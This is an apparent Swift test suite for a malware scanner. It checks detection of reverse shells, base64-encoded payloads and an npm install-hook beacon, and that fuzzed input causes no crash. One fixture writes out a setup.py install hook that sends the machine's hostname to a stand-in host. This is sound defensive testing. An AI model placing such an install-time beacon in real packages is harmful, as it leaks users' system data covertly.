import CupelCore
import Gauntlet
import Testing

@Suite struct MaliceTests {
    private static func malice(_ text: String, path: String) throws -> [Finding] {
        try GauntletFixture.scan(text, path: path).findings.filter { $0.layer == .malice }
    }

    @Test(arguments: MaliceSamples.reverseShells.map(\.name))
    func `a reverse shell blocks whatever it is written in`(_ name: String) throws {
        let sample = try #require(MaliceSamples.reverseShells.first { $0.name == name })
        for path in ["sample", "notes.txt"] {
            let findings = try Self.malice(sample.text, path: path)
            #expect(VerdictPolicy.standard.judge(findings).verdict == .block, "\(path): \(findings.map(\.rule))")
        }
    }

    @Test(arguments: MaliceSamples.harmless.map(\.path))
    func `what only looks alike passes`(_ path: String) throws {
        let sample = try #require(MaliceSamples.harmless.first { $0.path == path })
        let findings = try Self.malice(sample.text, path: sample.path)
        #expect(VerdictPolicy.standard.judge(findings).verdict == .pass, "\(findings.map(\.rule))")
    }

    @Test func `what stands in a comment is no finding and in prose it is a low one`() throws {
        let shell = MaliceSamples.reverseShells[0].text
        #expect(try Self.malice("# \(shell)\necho done\n", path: "a.sh") == [])
        #expect(try Self.malice("def f():\n    pass\n# \(shell)\n", path: "a.py") == [])
        let prose = try Self.malice("Intruders run `\(shell)` then.\n", path: "a.md")
        #expect(!prose.isEmpty && prose.allSatisfy { $0.severity <= .low && $0.message.contains("prose") })
    }

    @Test func `what is encoded is found where it stands encoded`() throws {
        let hidden = MaliceSamples.base64(MaliceSamples.reverseShells[0].text)
        let findings = try Self.malice("a = 1\nb = '\(hidden)'\n", path: "a.py")
        let finding = try #require(findings.first { $0.rule == "shell-to-dev-tcp" })
        #expect(finding.line == 2 && finding.message.contains("base64"))
        let twice = MaliceSamples.base64(hidden)
        #expect(try Self.malice("b = '\(twice)'\n", path: "a.py").contains { $0.rule == "shell-to-dev-tcp" })
    }

    @Test func `a combination says which signals made it and how malicious the file is`() throws {
        let text =
            "import os\nfrom setuptools.command.install import install\nimport socket, urllib.request\n"
            + "class C(install):\n    def run(self):\n        h = socket.gethost" + "name()\n"
            + "        urllib.request.urlop" + "en('https://log.example.net/' + h)\n"
        let finding = try #require(
            try Self.malice(text, path: "pkg/setup.py").first { $0.rule == "installer-calls-home" }
        )
        #expect(finding.severity == .high)
        #expect(finding.message.contains("(line 6)") && finding.message.contains("malice score is 0."))
        #expect(!(try Self.malice(text, path: "pkg/other.py")).contains { $0.rule == "installer-calls-home" })
    }

    @Test func `a package is judged over its files and a large one is not`() async throws {
        let folder = GauntletFixture.temporaryDirectory("package")
        for file in MaliceSamples.beacon { try GauntletFixture.write(file.text, to: folder + "/" + file.path) }
        let engine = try GauntletFixture.engine.get()
        let small = try await engine.scanTree(at: folder)
        let finding = try #require(small.findings.first { $0.rule == "npm-hook-beacon" })
        #expect(finding.path.hasSuffix("/package.json") && finding.severity == .high)
        for index in 0..<20 { try GauntletFixture.write("let x = \(index)\n", to: folder + "/b\(index).js") }
        let large = try await engine.scanTree(at: folder)
        #expect(!large.findings.contains { $0.rule == "npm-hook-beacon" })
    }

    @Test func `every signal is seen in its example and no rule sees its counter-example`() throws {
        let engine = try GauntletFixture.engine.get()
        var generator = SeededGenerator(seed: 3)
        for rule in engine.rules.rules where rule.signal != nil {
            for template in rule.examples.match {
                let text = ExampleTemplate(template).expand(using: &generator)
                let alone = RulePack(release: "1", rules: [Self.visible(rule)])
                let found = try GauntletEngine(rules: alone, cacheDirectory: nil).scan(Array(text.utf8), path: "x")
                #expect(!found.findings.isEmpty, "\(rule.id) does not see \(template)")
            }
        }
    }

    /// The rule as one that gives findings.
    private static func visible(_ rule: Rule) -> Rule {
        var rule = rule
        rule.signal = nil
        return rule
    }

    @Test func `the packs know the categories that are promised`() throws {
        let pack = try RulePack.builtIn()
        let malice = pack.rules.filter { $0.layer == .malice && $0.signal == nil }
        let categories = Set(malice.map(\.category) + pack.combinations.map(\.category))
        #expect(categories.count >= 24, "\(categories.sorted())")
    }

    @Test func `broken bytes never harm`() throws {
        let engine = try GauntletFixture.engine.get()
        var generator = SeededGenerator(seed: 17)
        let seeds = MaliceSamples.reverseShells.map(\.text) + [MaliceSamples.base64("exec(x) \\x41\\x42 %41%42 chr(1)")]
        for round in 0..<1500 {
            var bytes = Array(seeds[round % seeds.count].utf8)
            for _ in 0..<4 {
                bytes[Int.random(in: 0..<bytes.count, using: &generator)] = UInt8.random(in: 0...255, using: &generator)
            }
            bytes.removeLast(Int.random(in: 0..<bytes.count, using: &generator))
            let path = ["a.py", "a.js", "a", "a.ps1", "a.bat", "a.md", "a.php"][round % 7]
            for finding in engine.scan(bytes, path: path).findings {
                #expect(finding.line >= 1 && finding.excerpt.start >= 0)
            }
        }
    }
}
